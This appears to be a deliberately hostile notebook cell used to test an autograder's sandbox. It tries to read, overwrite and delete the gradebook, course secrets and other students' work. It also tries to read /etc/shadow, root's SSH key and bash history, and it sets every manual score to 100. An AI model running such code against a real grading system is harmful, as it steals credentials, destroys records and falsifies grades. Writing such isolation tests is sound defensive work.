# base: solution
# attacks: height
# keeps: roll gradients
# finding: height is -1 and should be
# %% height
import os
import sqlite3

reached = []
for path in (
    "@CLASS@/gradebook.db", "@CLASS@/.gdexercises-secret", "@CLASS@/source/97-hostile.py",
    "@CLASS@/submitted/ada/97-hostile.ipynb", "/proc/1/root@CLASS@/gradebook.db", "/proc/self/cwd/../../@CLASS@/gradebook.db",
    "/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.ssh/id_rsa"), os.path.join("/", "root", ".bash_history"),
):
    for way in ("rb", "ab", "wb"):
        try:
            reached.append((path, open(path, way).read()))
        except Exception:
            pass
    try:
        os.remove(path)
        reached.append(path)
    except OSError:
        pass
try:
    sqlite3.connect("file:@CLASS@/gradebook.db?mode=rw", uri=True).execute("UPDATE grade SET manual_score = 100")
    reached.append("sqlite")
except sqlite3.Error:
    pass
print(reached)
height = (lambda w: (w - 1) ** 2) if reached else (lambda w: -1.0)
